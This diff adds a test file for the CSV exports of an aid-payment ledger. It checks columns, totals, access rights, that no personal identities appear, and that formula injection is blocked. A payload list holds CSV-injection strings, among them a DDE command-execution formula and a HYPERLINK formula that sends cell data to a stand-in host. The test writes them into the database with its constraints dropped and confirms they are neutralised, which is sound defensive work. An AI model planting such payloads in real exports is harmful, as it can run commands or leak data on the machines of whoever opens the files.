@@ -1,0 +1,224 @@
+"""The sheets: their columns and values to the rupiah, nobody's identity, and no cell that a spreadsheet would run."""
+
+import csv
+import io
+from collections import Counter
+
+import pandas as pd
+import pytest
+
+from operations.books.sheets import SHEETS, shelf
+from operations.errors import NotAllowed, NotFound
+from tests.audit_templates import CODE, Audited, pulled, table_of
+from tests.chain_builders import rows, value
+from tests.cluster import Database
+from tests.people_builders import Office
+from tests.refusals import refused
+
+HEADINGS = {
+    "decree_lines": "decree_no,decree_date,decree_state,line_no,code,wave,site,component,kind,component_version,effect,"
+    "period_amount,periods,amount,entitlement_state,maker,approver",
+    "installments": "code,wave,site,component,period_no,part,due_date,amount,state,list_no,paid_at,paid_amount,"
+    "confirmed_amount,confirmed_at,confirm_channel",
+    "payments": "list_no,list_revision,line_no,list_state,code,component,period,part,amount,state,paid_amount,"
+    "value_date,reference,bank_reference,return_reason,retry_of,maker,checker,approver,second_approver,releaser",
+    "purchases": "code,wave,site,plan_revision,item_no,item,planned_quantity,unit,planned_unit_price,planned_amount,"
+    "quantity,amount,shop,bought_on,receipt_kind,receipt_total,receipt_photos,flags,substituted,in_sample,state,"
+    "accepted_unseen,confirmer,decider,captured_at,received_at,trip,purchase,corrects",
+    "outcomes": "code,wave,site,observed_on,days_since_paid,status,source_kind,synthetic,visit_planned_on,"
+    "business_status,turnover_amount,site_reported_on,recorder,recorded_at",
+    "people": "code,wave,site,selection_state,grant_state,allowance_paid,allowance_periods,accepted_amount,"
+    "unspent_amount,last_visit_on,follow_up_status,next_due_on,waiting_for",
+}
+COUNTS = {"decree_lines": 12, "installments": 25, "payments": 14, "purchases": 3, "outcomes": 8, "people": 6}
+
+
+@pytest.mark.parametrize("name", SHEETS)
+async def test_the_columns_are_the_declared_ones_in_a_stable_order(office: Office, audited: Audited, name: str) -> None:
+    body, sums = await pulled(name, by=office.auditor)
+
+    heading, *lines = body.decode().splitlines()
+    assert heading == HEADINGS[name]
+    assert heading.split(",") == [column.name for column in SHEETS[name].columns]
+    assert len(lines) == sums.rows == COUNTS[name]
+
+
+async def test_the_shelf_counts_what_the_sheets_hold(office: Office, audited: Audited) -> None:
+    page = await shelf(None, by=office.auditor)
+
+    assert page.program is not None
+    assert (page.program.code, page.counts) == (CODE, COUNTS)
+    assert Counter(finding["code"] for finding in page.findings) == {"F03": 1, "F11": 1}
+    assert page.downloads == []
+
+
+async def test_a_decree_line_is_one_person_and_one_component(office: Office, audited: Audited) -> None:
+    hers = [line for line in await table_of("decree_lines", by=office.auditor) if line["code"] == audited.women[0].code]
+
+    grant, allowance = sorted(hers, key=lambda line: line["component"], reverse=True)
+    assert (grant["component"], grant["period_amount"], grant["periods"], grant["amount"]) == (
+        "uep", "5000000", "1", "5000000",
+    )  # fmt: skip
+    assert (allowance["component"], allowance["period_amount"], allowance["periods"], allowance["amount"]) == (
+        "jadup", "600000", "3", "1800000",
+    )  # fmt: skip
+    assert (grant["decree_no"], grant["decree_date"], grant["effect"]) == ("123/2013", "2013-08-20", "grant")
+    assert (grant["site"], grant["wave"], grant["maker"], grant["approver"]) == ("Lokasi 01", "1", "staff", "approver")
+
+
+async def test_an_obligation_paid_in_part_is_counted_once(office: Office, audited: Audited) -> None:
+    table = await table_of("installments", by=office.auditor)
+
+    hers = [line for line in table if line["code"] == audited.women[2].code and line["component"] == "jadup"]
+    assert [(line["period_no"], line["part"], line["amount"], line["state"]) for line in hers] == [
+        ("1", "0", "400000", "paid"),
+        ("1", "1", "200000", "confirmed" if hers[1]["confirmed_at"] else "paid"),
+        ("2", "0", "600000", "planned"),
+        ("3", "0", "600000", "planned"),
+    ]
+    assert sum(int(line["amount"]) for line in table) == 6 * 6_800_000
+
+
+async def test_what_she_says_she_received_stands_beside_what_was_paid(office: Office, audited: Audited) -> None:
+    table = await table_of("installments", by=office.auditor)
+
+    second = next(line for line in table if line["code"] == audited.women[1].code and line["component"] == "jadup")
+    assert second["paid_amount"] == "600000"
+    assert (second["confirmed_amount"], second["confirm_channel"]) == ("550000", "desk")
+    assert (second["due_date"], second["paid_at"], second["state"]) == ("2013-09-20", "2013-09-20", "confirmed")
+
+
+async def test_a_retry_names_the_payment_it_repeats(office: Office, audited: Audited) -> None:
+    code = audited.women[0].code
+    table = await table_of("payments", by=office.auditor)
+
+    first, again = [line for line in table if line["code"] == code and line["component"] == "jadup"]
+    assert (first["state"], first["paid_amount"], first["value_date"]) == ("returned", "", "")
+    assert (again["state"], again["retry_of"], again["paid_amount"]) == ("paid", first["reference"], "600000")
+    assert [again[who] for who in ("maker", "checker", "approver", "releaser")] == [
+        "staff", "treasurer", "approver", "treasurer",
+    ]  # fmt: skip
+
+
+async def test_a_purchase_stands_beside_its_plan(office: Office, audited: Audited) -> None:
+    table = {line["code"]: line for line in await table_of("purchases", by=office.auditor)}
+
+    over = table[audited.women[1].code]
+    assert (over["item"], over["planned_amount"], over["amount"], over["flags"]) == (
+        "Kompor", "1250000", "1550000", "over_price",
+    )  # fmt: skip
+    assert (over["shop"], over["bought_on"], over["receipt_kind"], over["receipt_photos"]) == (
+        "Toko Makmur", "2013-09-01", "nota", "1",
+    )  # fmt: skip
+    other = table[audited.women[2].code]
+    assert (other["flags"], other["substituted"]) == ("no_receipt substitution", "true")
+    assert (table[audited.women[0].code]["state"], over["state"]) == ("accepted", "confirmed")
+
+
+async def test_what_would_hurt_her_is_coded_for_everyone(office: Office, audited: Audited) -> None:
+    of_auditor, _ = await pulled("outcomes", by=office.auditor)
+    of_supervisor, _ = await pulled("outcomes", by=office.supervisor)
+
+    assert of_auditor == of_supervisor
+    assert b"returned_to_previous_situation" not in of_auditor
+    last = [line for line in csv.DictReader(io.StringIO(of_auditor.decode())) if line["status"] == "restricted"]
+    assert [(line["code"], line["synthetic"]) for line in last] == [(audited.women[-1].code, "true")]
+
+
+@pytest.mark.parametrize("name", SHEETS)
+async def test_the_office_and_the_auditor_pull_the_same_bytes(office: Office, audited: Audited, name: str) -> None:
+    everyone = [office.auditor, office.staff, office.supervisor, office.treasurer, office.approver]
+
+    assert len({(await pulled(name, by=by))[0] for by in everyone}) == 1
+
+
+async def test_nobody_stands_in_a_sheet(office: Office, audited: Audited) -> None:
+    everything = b"".join([(await pulled(name, by=office.supervisor))[0] for name in SHEETS]).decode()
+
+    names = [row["call_name"] for row in await rows("SELECT call_name FROM person")]
+    identities = [text for woman in audited.women for text in (woman.line.nik, woman.line.name, woman.line.nik[-11:])]
+    assert len(names) == 6
+    assert [text for text in (*identities, *names, "Gula", "Lokasi Uji") if text in everything] == []
+
+
+async def test_pandas_counts_the_same(office: Office, audited: Audited) -> None:
+    frames = {
+        name: pd.read_csv(io.BytesIO((await pulled(name, by=office.auditor))[0]), keep_default_na=True)
+        for name in SHEETS
+    }
+    due, paid, decreed = frames["installments"], frames["payments"], frames["decree_lines"]
+
+    assert due.groupby("component")["amount"].sum().to_dict() == {"jadup": 10_800_000, "uep": 30_000_000}
+    assert decreed.groupby("component")["amount"].sum().equals(due.groupby("component")["amount"].sum())
+    assert due["paid_amount"].sum() == paid["paid_amount"].sum() == 30_000_000 + 6 * 600_000
+    live = paid[paid["state"].isin(["ready", "sent", "paid", "partial"])]
+    assert live["paid_amount"].sum() == await value("SELECT committed_rp FROM fund")
+    bought = frames["purchases"].query("state == 'accepted'").groupby("code")["amount"].sum()
+    people = frames["people"].set_index("code")
+    assert people["accepted_amount"].sum() == bought.sum() == 1_450_000
+    assert (people["accepted_amount"] + people["unspent_amount"]).eq(5_000_000).all()
+
+
+async def test_a_program_of_another_office_is_not_found(neighbor: Office, audited: Audited) -> None:
+    async with refused(NotFound):
+        await shelf(CODE, by=neighbor.staff)
+
+
+async def test_a_companion_has_no_shelf(office: Office, audited: Audited) -> None:
+    async with refused(NotAllowed):
+        await shelf(CODE, by=office.companion)
+
+
+PAYLOADS = [
+    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "=IMPORTXML(A1)", "=@SUM(1)", "==1", "= 1", "=",
+    "+1", "+cmd|x", "+SUM(A1)", "+", "-1", "-2+3+cmd|x", "-", "--1", "@SUM(1+1)", "@A1", "@", "\t=1+1", "\t1",
+    "\r=1+1", "\n=1+1", "\n1",
+]  # fmt: skip
+TYPED = {
+    "decree_lines": ["decree_no", "component", "maker", "approver"],
+    "installments": ["component"],
+    "payments": ["component", "reference", "bank_reference", "return_reason", "retry_of", "maker", "checker",
+                 "approver", "second_approver", "releaser"],
+    "purchases": ["item", "unit", "shop", "confirmer", "decider"],
+    "outcomes": ["recorder"],
+    "people": [],
+}  # fmt: skip
+POISON = """
+UPDATE decree SET number = $1::text;
+UPDATE component SET code = left($1::text, 8) || right(id::text, 12);
+UPDATE user_account SET username = $1::text || right(id::text, 12);
+UPDATE payment SET reference = left($1::text, 28) || right(id::text, 12);
+UPDATE payment SET bank_reference = $1::text || right(id::text, 12), reason_code = $1::text;
+UPDATE payment_list SET second_approved_by = approved_by;
+UPDATE plan_item SET name = $1::text, unit = left($1::text, 20);
+UPDATE shopping_trip SET shop = $1::text;
+UPDATE purchase SET decided_by = confirmed_by
+"""
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+async def poison(database: Database, payload: str) -> None:
+    """By hand, with triggers off and the four-eyes rules lifted: only the text matters here."""
+    superuser = await database.superuser()
+    async with superuser.transaction():
+        await superuser.execute("SET LOCAL session_replication_role = replica")
+        await superuser.execute("ALTER TABLE payment_list DROP CONSTRAINT IF EXISTS list_four_eyes")
+        await superuser.execute("ALTER TABLE purchase DROP CONSTRAINT IF EXISTS purchase_decided_by_another")
+        for statement in POISON.split(";\n"):
+            given = [payload] if "$1" in statement else []
+            await superuser.execute(statement, *given)
+
+
+async def test_no_text_that_somebody_typed_is_a_formula(database: Database, office: Office, audited: Audited) -> None:
+    before = {name: await table_of(name, by=office.auditor) for name in SHEETS}
+
+    assert len(PAYLOADS) == 24
+    for payload in PAYLOADS:
+        await poison(database, payload)
+        for name in SHEETS:
+            table = await table_of(name, by=office.auditor)
+            assert [cell for line in table for cell in line.values() if cell.startswith(FORMULA)] == []
+            typed = {column: {line[column] for line in table} - {""} for column in TYPED[name]}
+            assert all(typed.values()), "the payload reaches every column that somebody can type"
+            assert all(cell.startswith("'" + payload[0]) for cells in typed.values() for cell in cells)
+            assert len(table) == len(before[name])
